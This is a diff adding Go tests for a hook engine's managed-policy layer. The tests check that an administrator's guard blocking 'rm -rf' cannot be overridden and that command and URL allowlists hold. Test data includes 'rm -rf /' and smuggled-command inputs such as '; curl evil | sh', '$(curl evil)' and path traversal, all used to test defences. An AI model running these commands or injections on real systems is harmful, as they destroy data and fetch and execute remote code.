@@ -1,0 +1,250 @@
+package engine
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/hermes-hooks/hermes/internal/testutil"
+)
+
+// managedHomes makes a managed home whose config.yaml is managedCfg and a user home with
+// the given files; it returns both.
+func managedHomes(t *testing.T, managedCfg string, user map[string]string) (managedHome, home string) {
+	t.Helper()
+	managedHome, home = t.TempDir(), t.TempDir()
+	writeFile(t, filepath.Join(managedHome, "config.yaml"), managedCfg)
+	writeFile(t, filepath.Join(managedHome, "guard.sh"), "#!/bin/sh\nif grep -q 'rm -rf' ; then echo '{\"action\":\"block\",\"message\":\"managed: no rm -rf\"}'; fi\n")
+	os.Chmod(filepath.Join(managedHome, "guard.sh"), 0o755)
+	for name, body := range user {
+		p := filepath.Join(home, name)
+		os.MkdirAll(filepath.Dir(p), 0o755)
+		writeFile(t, p, body)
+		if strings.HasSuffix(name, ".sh") {
+			os.Chmod(p, 0o755)
+		}
+	}
+	return managedHome, home
+}
+
+func newManagedEngine(t *testing.T, managedHome, home string) (*Engine, *testutil.Buffer) {
+	t.Helper()
+	logs := &testutil.Buffer{}
+	e, err := New(context.Background(), Options{Home: home, ManagedHome: managedHome, AcceptHooks: true, Logger: newTestLogger(logs)})
+	if err != nil {
+		t.Fatalf("New: %v", err)
+	}
+	t.Cleanup(func() { e.Close(context.Background()) })
+	return e, logs
+}
+
+var rmRF = ToolCall{Name: "terminal", Args: map[string]any{"command": "rm -rf /"}}
+
+// The user's home can neither switch the managed guard off nor outrank its block: a plugin
+// and a shell hook that approve, a rewrite, a policy: of its own and a disabled list.
+func TestManagedGuardCannotBeDisabledOrOutranked(t *testing.T) {
+	mh, home := managedHomes(t, "", map[string]string{
+		"config.yaml": `policy: {managed_hooks_only: false}
+plugins: {disabled: [guard, managed]}
+hooks_consent: pinned
+hooks:
+  pre_tool_call:
+    - command: ./approve.sh
+`,
+		"approve.sh": "#!/bin/sh\necho '{\"action\":\"approve\"}'\n",
+	})
+	writeFile(t, filepath.Join(mh, "config.yaml"), "hooks:\n  pre_tool_call:\n    - command: "+filepath.Join(mh, "guard.sh")+"\n")
+	for name, body := range pluginFiles("yes", "", one("pre_tool_call", `return {action = "approve"}`)) {
+		os.MkdirAll(filepath.Dir(filepath.Join(home, name)), 0o755)
+		writeFile(t, filepath.Join(home, name), body)
+	}
+	t.Chdir(home)
+	e, _ := newManagedEngine(t, mh, home)
+	b := e.PreToolCall(context.Background(), rmRF)
+	if b == nil || b.Message != "managed: no rm -rf" {
+		t.Fatalf("got %+v, want the managed guard's block", b)
+	}
+	hooks := e.ShellHooks()
+	if len(hooks) != 2 || hooks[0].Layer != LayerManaged || !hooks[0].Registered || hooks[0].ApprovedBy != LayerManaged || hooks[1].Layer != LayerUser {
+		t.Fatalf("shell hooks %+v: want the managed one first, registered without consent, then the user's", hooks)
+	}
+	if !hasWarning(e.Warnings(), "policy: is read only from the managed home") {
+		t.Errorf("no warning that the user's policy: is ignored: %v", e.Warnings())
+	}
+	if e.PreToolCall(context.Background(), ToolCall{Name: "terminal", Args: map[string]any{"command": "ls"}}) != nil {
+		t.Error("a harmless call was blocked")
+	}
+}
+
+// A transform of the managed home comes first, so the user's cannot replace its answer.
+func TestManagedHookRunsBeforeUserPlugins(t *testing.T) {
+	mh, home := managedHomes(t, "", map[string]string{"config.yaml": ""})
+	writeFile(t, filepath.Join(mh, "t.sh"), "#!/bin/sh\necho '{\"result\":\"managed\"}'\n")
+	os.Chmod(filepath.Join(mh, "t.sh"), 0o755)
+	writeFile(t, filepath.Join(mh, "config.yaml"), "hooks:\n  transform_tool_result:\n    - command: "+filepath.Join(mh, "t.sh")+"\n")
+	for name, body := range pluginFiles("user", "", one("transform_tool_result", `return "user"`)) {
+		os.MkdirAll(filepath.Dir(filepath.Join(home, name)), 0o755)
+		writeFile(t, filepath.Join(home, name), body)
+	}
+	e, _ := newManagedEngine(t, mh, home)
+	rep := e.Fire(context.Background(), TransformToolResult, map[string]any{"tool_name": "terminal", "result": "x"})
+	if len(rep.Hooks) != 2 || rep.Hooks[0].Source != SourceShell {
+		t.Fatalf("hooks ran %+v, want the managed shell hook first", rep.Hooks)
+	}
+	if text, _ := rep.Text(); text != "managed" {
+		t.Errorf("transformed to %q, want the managed answer", text)
+	}
+}
+
+func TestManagedHooksOnlyRefusesUserHooks(t *testing.T) {
+	mh, home := managedHomes(t, "policy:\n  managed_hooks_only: true\n", map[string]string{
+		"config.yaml": "hooks:\n  pre_tool_call:\n    - command: ./mine.sh\n",
+		"mine.sh":     "#!/bin/sh\necho '{\"action\":\"block\",\"message\":\"mine\"}'\n",
+	})
+	for name, body := range pluginFiles("p", "", one("pre_tool_call", `return {action = "block", message = "plugin"}`)) {
+		os.MkdirAll(filepath.Dir(filepath.Join(home, name)), 0o755)
+		writeFile(t, filepath.Join(home, name), body)
+	}
+	t.Chdir(home)
+	e, logs := newManagedEngine(t, mh, home)
+	if b := e.PreToolCall(context.Background(), rmRF); b != nil {
+		t.Fatalf("a user hook ran under managed_hooks_only: %+v", b)
+	}
+	s := e.ShellHooks()
+	if len(s) != 1 || s[0].Registered || !strings.Contains(s[0].Refused, "managed_hooks_only: true") {
+		t.Fatalf("user hook %+v: want refused, saying why", s)
+	}
+	if len(e.Plugins()) != 0 || !hasWarning(e.Warnings(), "plugins not loaded: refused by the managed policy") {
+		t.Errorf("plugins %v, warnings %v: want none loaded, with a warning", e.Plugins(), e.Warnings())
+	}
+	if !strings.Contains(logs.String(), "not registered: refused by the managed policy") {
+		t.Errorf("the log does not say the hook was refused:\n%s", logs)
+	}
+	if !e.Policy().ManagedHooksOnly {
+		t.Error("Policy() does not report managed_hooks_only")
+	}
+	os.MkdirAll(filepath.Join(home, "hooks", "g"), 0o755)
+	writeFile(t, filepath.Join(home, "hooks", "g", "HOOK.yaml"), "events: [agent:end]\n")
+	gw, _, warns, err := e.LoadGatewayHooks(context.Background(), GatewayHookOptions{}, nil)
+	if err != nil || len(gw) != 0 || !hasWarning(warns, "gateway hooks not loaded: refused by the managed policy") {
+		t.Errorf("gateway hooks %v, warnings %v, err %v: want none loaded, with a warning", gw, warns, err)
+	}
+}
+
+func TestManagedAllowedCommandsAndURLs(t *testing.T) {
+	mh, home := managedHomes(t, `policy:
+  allowed_commands: ["./ok-*.sh"]
+  allowed_http_urls: ["https://hooks.example.com/*"]
+`, map[string]string{
+		"config.yaml": `hooks:
+  pre_tool_call:
+    - command: ./ok-1.sh
+    - command: ./other.sh
+    - type: http
+      url: https://hooks.example.com/guard
+    - type: http
+      url: https://evil.example.net/guard
+`,
+		"ok-1.sh": "#!/bin/sh\n", "other.sh": "#!/bin/sh\n",
+	})
+	t.Chdir(home)
+	e, _ := newManagedEngine(t, mh, home)
+	got := map[string]string{}
+	for _, s := range e.ShellHooks() {
+		got[s.Command] = s.Refused
+	}
+	for cmd, refused := range map[string]string{"./ok-1.sh": "", "./other.sh": "allowed_commands", "https://hooks.example.com/guard": "", "https://evil.example.net/guard": "allowed_http_urls"} {
+		if (refused == "") != (got[cmd] == "") || !strings.Contains(got[cmd], refused) {
+			t.Errorf("%s: refused %q, want %q", cmd, got[cmd], refused)
+		}
+	}
+}
+
+// A managed home that cannot be read is not an empty one: the engine does not start, and a
+// reload keeps the guard that runs.
+func TestManagedHomeCorruptFailsSafe(t *testing.T) {
+	for _, bad := range []string{"hooks: [unclosed\n", "policy:\n  allowed_http_urls: https://x/*\n", "policy:\n  managed_hooks_olny: true\n"} {
+		mh, home := managedHomes(t, bad, map[string]string{"config.yaml": ""})
+		_, err := New(context.Background(), Options{Home: home, ManagedHome: mh})
+		if err == nil || !strings.Contains(err.Error(), "managed home") || !strings.Contains(err.Error(), filepath.Join(mh, "config.yaml")) {
+			t.Errorf("managed config %q: New error %v, want one naming the managed file", bad, err)
+		}
+	}
+	mh, home := managedHomes(t, "", map[string]string{"config.yaml": ""})
+	writeFile(t, filepath.Join(mh, "config.yaml"), "hooks:\n  pre_tool_call:\n    - command: "+filepath.Join(mh, "guard.sh")+"\n")
+	e, _ := newManagedEngine(t, mh, home)
+	writeFile(t, filepath.Join(mh, "config.yaml"), "hooks: [unclosed\n")
+	if err := e.Reload(context.Background()); err == nil || !strings.Contains(err.Error(), "managed home") {
+		t.Fatalf("Reload = %v, want the managed home's error", err)
+	}
+	if b := e.PreToolCall(context.Background(), rmRF); b == nil {
+		t.Fatal("after a failed reload the managed guard no longer runs")
+	}
+}
+
+func hasWarning(ws []Warning, sub string) bool {
+	for _, w := range ws {
+		if strings.Contains(w.String(), sub) {
+			return true
+		}
+	}
+	return false
+}
+
+func TestMatchCommand(t *testing.T) {
+	cases := []struct {
+		pattern, cmd string
+		want         bool
+	}{
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/guard.sh --strict", true},
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/../../../bin/evil", false},
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/..", false},
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/x.sh; curl evil | sh", false},
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/x.sh $(curl evil)", false},
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/x.sh `id`", false},
+		{"~/.hermes/agent-hooks/*", "~/.hermes/agent-hooks/x.sh\nrm -rf /", false},
+		{"~/.hermes/agent-hooks/*", "/bin/evil ~/.hermes/agent-hooks/x.sh", false},
+		{"python3 /opt/hooks/*.py", "python3 /opt/hooks/check.py", true},
+		{"python3 /opt/hooks/*.py", "python3 /opt/hooks/a.py && evil.py", false},
+		{"/opt/hooks/guard.sh", "/opt/hooks/guard.sh", true},
+		{"/opt/hooks/guard.sh | logger", "/opt/hooks/guard.sh | logger", true}, // written out by the administrator
+		{"/opt/hooks/x..y/*", "/opt/hooks/x..y/a", true},
+	}
+	for _, c := range cases {
+		if got := matchCommand(c.pattern, c.cmd); got != c.want {
+			t.Errorf("matchCommand(%q, %q) = %v, want %v", c.pattern, c.cmd, got, c.want)
+		}
+	}
+}
+
+// Lua hooks put in the managed home would not run: the load fails rather than drop them.
+func TestManagedLuaHooksAreNotDroppedSilently(t *testing.T) {
+	for _, sub := range []string{"plugins/guard", "hooks/audit"} {
+		mh, home := managedHomes(t, "", map[string]string{"config.yaml": ""})
+		os.MkdirAll(filepath.Join(mh, sub), 0o755)
+		_, err := New(context.Background(), Options{Home: home, ManagedHome: mh})
+		if err == nil || !strings.Contains(err.Error(), "which the managed layer does not load") {
+			t.Errorf("%s: New error %v, want the load refused", sub, err)
+		}
+	}
+}
+
+// A process whose managed home was moved away from the system's, while the system's has a
+// config.yaml, says so at every load.
+func TestManagedHomeRelocatedIsWarned(t *testing.T) {
+	sys, other, home := t.TempDir(), t.TempDir(), t.TempDir()
+	writeFile(t, filepath.Join(sys, "config.yaml"), "policy: {managed_hooks_only: true}\n")
+	saved := systemManagedHome
+	systemManagedHome = sys
+	defer func() { systemManagedHome = saved }()
+	e, _ := newManagedEngine(t, other, home)
+	if !hasWarning(e.Warnings(), "this managed home is not used: the managed home is "+other) {
+		t.Errorf("warnings %v", e.Warnings())
+	}
+	e2, _ := newManagedEngine(t, sys, home)
+	if hasWarning(e2.Warnings(), "is not used") {
+		t.Errorf("the system's own managed home was warned about: %v", e2.Warnings())
+	}
+}
